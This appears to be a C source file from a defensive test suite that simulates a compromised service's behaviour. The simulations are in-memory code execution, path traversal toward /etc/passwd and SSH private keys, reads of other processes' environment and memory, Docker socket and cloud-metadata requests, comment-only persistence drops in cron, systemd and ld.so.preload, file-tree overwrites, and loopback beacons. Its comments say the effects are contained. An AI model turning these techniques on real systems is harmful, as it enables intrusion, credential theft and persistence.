/* The attacks that make calls which a service makes all day, on things that it never touched.
 *
 * As in attacks.c: connections stay on loopback; what is written outside of the suite's folder (/etc) is written in a
 * mount namespace of the suite's own, where the suite orders such an attack only when it made that namespace; what is read of
 * the host is wiped and goes nowhere. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "calls.h"

#define PAGE 4096
#define BEACON_HOST 0x7f420606u   /* 127.66.6.6 */
#define METADATA_HOST 0xa9fea9feu /* 169.254.169.254 */
#define UNPRIVILEGED 65534

/* A function that asks for the process's id by a call of its own: what is run makes a call from where it was put. */
#if defined(__x86_64__)
static const unsigned char code[] = {0xb8, 0x27, 0, 0, 0, 0x0f, 0x05, 0xc3};
#elif defined(__aarch64__)
static const unsigned char code[] = {0x88, 0x15, 0x80, 0xd2, 0x01, 0, 0, 0xd4, 0xc0, 0x03, 0x5f, 0xd6};
#else
static const unsigned char code[] = {0};
#endif

static void run_code(void *page)
{
    __builtin___clear_cache((char *)page, (char *)page + sizeof code);
    if (sizeof code > 1) {
        atomic_fetch_add(&control->made, 1);
        ((long (*)(void))page)();
    }
}

static void writable_code(void)
{
    long page = CALL(SYS_mmap, NULL, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page != -1) {
        memcpy((void *)page, code, sizeof code);
        run_code((void *)page);
        CALL(SYS_munmap, page, PAGE);
    }
    done();
}

static void code_made_executable(void)
{
    long page = CALL(SYS_mmap, NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (page != -1) {
        memcpy((void *)page, code, sizeof code);
        if (CALL(SYS_mprotect, page, PAGE, PROT_READ | PROT_EXEC) == 0)
            run_code((void *)page);
        CALL(SYS_munmap, page, PAGE);
    }
    done();
}

/* Reads a file and wipes what it read; sends it first where there is a connection. */
static void take(const char *path, int to)
{
    char bytes[PAGE];
    long count;
    int fd = OPEN(path, O_RDONLY);
    if (fd < 0)
        return;
    while ((count = CALL(SYS_read, fd, bytes, sizeof bytes)) > 0)
        if (to >= 0)
            CALL(SYS_sendto, to, bytes, count, MSG_NOSIGNAL, NULL, 0);
    explicit_bzero(bytes, sizeof bytes);
    CALL(SYS_close, fd);
}

static void own_secret(int is_sent)
{
    int to = is_sent ? dial(control->port) : -1;
    take(control->secret, to);
    if (is_sent)
        CALL(SYS_close, to);
    done();
}

/* Root's rights are refused to a service without them. One that has them gives them up and takes them back, as su does. Each call
 * concerns this thread alone: it is the C library that has all threads follow. */
static void credentials(void)
{
    if (geteuid() != 0) {
        CALL(SYS_setuid, 0);
        CALL(SYS_setresuid, 0, 0, 0);
        CALL(SYS_setgid, 0);
    } else {
        CALL(SYS_setresgid, -1, UNPRIVILEGED, -1);
        CALL(SYS_setresuid, -1, UNPRIVILEGED, -1);
        CALL(SYS_setresuid, -1, 0, -1);
        CALL(SYS_setresgid, -1, 0, -1);
    }
    done();
}

/* Out of a folder of the service by `..`. */
static void path_traversal(void)
{
    static const char *const wanted[] = {
        "etc/hostname", "etc/hosts", "etc/passwd", "etc/group", "etc/fstab", "etc/issue", "etc/os-release", "etc/resolv.conf",
        "etc/nsswitch.conf", "etc/profile", "etc/bash.bashrc", "etc/services", "etc/protocols", "etc/debian_version", "etc/shells",
        "etc/login.defs", "etc/crontab", "etc/environment", "etc/machine-id", "etc/apt/sources.list", "etc/ssh/sshd_config",
        "etc/ssh/ssh_host_rsa_key", "etc/mysql/my.cnf", "etc/apache2/apache2.conf", "root/.bashrc", "root/.profile",
        "root/.ssh/id_rsa", "var/log/dpkg.log", "var/log/syslog", "var/www/html/config.php", "var/www/html/.env", "proc/version",
        "proc/cmdline", "proc/mounts", "proc/net/tcp", "proc/self/cmdline", "proc/self/status", "proc/self/maps", "proc/self/mounts",
        "proc/self/limits",
    };
    char path[800];
    for (size_t i = 0; i < sizeof wanted / sizeof *wanted; i++) {
        snprintf(path, sizeof path, "%s../../../../../../../../%s", victims, wanted[i]);
        take(path, -1);
    }
    done();
}

static void overwrite(const char *path)
{
    static const char zeros[PAGE];
    int fd = OPEN(path, O_WRONLY | O_TRUNC | O_NOFOLLOW);
    if (fd < 0)
        return;
    CALL(SYS_write, fd, zeros, sizeof zeros);
    CALL(SYS_close, fd);
}

/* Folders and files of the tree that the suite made for it. Symbolic links are not followed. */
static void overwrite_tree(const char *folder, int depth)
{
    char entries[PAGE], path[800];
    int fd = OPEN(folder, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    long count;
    if (fd < 0)
        return;
    while ((count = CALL(SYS_getdents64, fd, entries, sizeof entries)) > 0) {
        for (long at = 0; at < count;) {
            struct dirent64 *entry = (struct dirent64 *)(entries + at);
            at += entry->d_reclen;
            if (entry->d_name[0] == '.')
                continue;
            snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
            if (entry->d_type == DT_DIR && depth > 0)
                overwrite_tree(path, depth - 1);
            else if (entry->d_type == DT_REG)
                overwrite(path);
        }
    }
    CALL(SYS_close, fd);
}

static void tree_overwritten(void)
{
    char tree[800];
    snprintf(tree, sizeof tree, "%stree", victims);
    overwrite_tree(tree, 8);
    done();
}

/* Outside of the suite's folder only in its own mount namespace. What is written has no effect even there: a comment. */
static void drop(const char *path, const char *text)
{
    int fd = (int)CALL(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_APPEND | O_NOFOLLOW, 0644);
    if (fd >= 0) {
        CALL(SYS_write, fd, text, strlen(text));
        CALL(SYS_close, fd);
    }
    done();
}

/* In a home that the suite made for it. */
static void drop_authorized_keys(void)
{
    char path[800];
    snprintf(path, sizeof path, "%shome/.ssh/authorized_keys", victims);
    drop(path, "# written by the scenario suite\n");
}

static void foreign_environment(void)
{
    take("/proc/1/environ", -1);
    done();
}

/* Of a process that the suite started for it: its first mapping, through /proc and by a call. */
static void foreign_memory(void)
{
    char path[64], text[PAGE] = "", bytes[256];
    snprintf(path, sizeof path, "/proc/%u/maps", control->victim);
    int fd = OPEN(path, O_RDONLY);
    if (fd >= 0) {
        CALL(SYS_read, fd, text, sizeof text - 1);
        CALL(SYS_close, fd);
    }
    unsigned long address = strtoul(text, NULL, 16);
    snprintf(path, sizeof path, "/proc/%u/mem", control->victim);
    fd = OPEN(path, O_RDONLY);
    if (fd >= 0) {
        CALL(SYS_pread64, fd, bytes, sizeof bytes, address);
        CALL(SYS_close, fd);
    }
    struct iovec here = {bytes, sizeof bytes}, there = {(void *)address, sizeof bytes};
    CALL(SYS_process_vm_readv, control->victim, &here, 1, &there, 1, 0);
    explicit_bzero(bytes, sizeof bytes);
    done();
}

static void container_socket(void)
{
    static const char request[] = "GET /containers/json HTTP/1.0\r\n\r\n";
    struct sockaddr_un address = {.sun_family = AF_UNIX, .sun_path = "/run/docker.sock"};
    int fd = (int)CALL(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && CALL(SYS_connect, fd, &address, sizeof address) == 0)
        CALL(SYS_sendto, fd, request, sizeof request - 1, MSG_NOSIGNAL, NULL, 0);
    CALL(SYS_close, fd);
    done();
}

/* Says something to an address and hangs up. */
static void tell(uint32_t host, uint32_t port, const char *text)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    address.sin_addr.s_addr = htonl(host);
    int fd = (int)CALL(SYS_socket, AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && CALL(SYS_connect, fd, &address, sizeof address) == 0)
        CALL(SYS_sendto, fd, text, strlen(text), MSG_NOSIGNAL, NULL, 0);
    CALL(SYS_close, fd);
}

static void written_then_run(void)
{
    char path[800], bytes[PAGE], *arguments[] = {"update", NULL};
    snprintf(path, sizeof path, "%supdate", victims);
    int from = OPEN("/bin/true", O_RDONLY);
    int to = (int)CALL(SYS_openat, AT_FDCWD, path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOFOLLOW, 0755);
    long count;
    while ((count = CALL(SYS_read, from, bytes, sizeof bytes)) > 0)
        CALL(SYS_write, to, bytes, count);
    CALL(SYS_close, from);
    CALL(SYS_close, to);
    sigset_t before;
    block_children(&before);
    pid_t pid = forked();
    if (pid == 0) {
        CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
        CALL(SYS_execve, path, arguments, environ);
        _exit(127);
    }
    if (pid > 0)
        CALL(SYS_wait4, pid, NULL, 0, NULL);
    CALL(SYS_rt_sigprocmask, SIG_SETMASK, &before, NULL, 8);
    done();
}

/* A different one each time, refused or without effect. */
static void odd_call(uint32_t place)
{
    switch (place % 4) {
    case 0: /* the id of a keyring that is not made for it */
        CALL(SYS_keyctl, 0, -3, 0);
        break;
    case 1: /* flags that there are not */
        CALL(SYS_userfaultfd, 0x4000);
        break;
    case 2: /* an event that there is not */
        CALL(SYS_perf_event_open, NULL, 0, -1, -1, 0);
        break;
    default: /* a map of no size */
        CALL(SYS_bpf, 0, NULL, 0);
    }
}

void step(struct control *shared, enum attack attack, uint32_t place, int is_last)
{
    control = shared;
    if (attack == BEACON)
        tell(BEACON_HOST, control->port, "beat\n");
    else
        odd_call(place);
    if (is_last)
        done();
}

/* The first step is due at once, and made by the next thread that comes by. */
static void begin_steps(void)
{
    atomic_store(&control->due_ns, monotonic_ns());
}

void touch(enum attack attack)
{
    switch (attack) {
    case WRITABLE_CODE: writable_code(); break;
    case CODE_MADE_EXECUTABLE: code_made_executable(); break;
    case OWN_SECRET: own_secret(0); break;
    case OWN_SECRET_SENT: own_secret(1); break;
    case CREDENTIALS: credentials(); break;
    case BEACON: case TRICKLE: begin_steps(); break;
    case PATH_TRAVERSAL: path_traversal(); break;
    case TREE_OVERWRITTEN: tree_overwritten(); break;
    case DROP_CRON: drop("/etc/cron.d/update", "# written by the scenario suite\n"); break;
    case DROP_AUTHORIZED_KEYS: drop_authorized_keys(); break;
    case DROP_UNIT: drop("/etc/systemd/system/update.service", "# written by the scenario suite\n"); break;
    case DROP_PRELOAD: drop("/etc/ld.so.preload", "# written by the scenario suite\n"); break;
    case FOREIGN_ENVIRONMENT: foreign_environment(); break;
    case FOREIGN_MEMORY: foreign_memory(); break;
    case CONTAINER_SOCKET: container_socket(); break;
    case METADATA_ADDRESS:
        tell(METADATA_HOST, 80, "GET /latest/meta-data/ HTTP/1.0\r\n\r\n");
        done();
        break;
    case WRITTEN_THEN_RUN: written_then_run(); break;
    case IO_URING: by_io_uring(); break;
    default: break;
    }
}
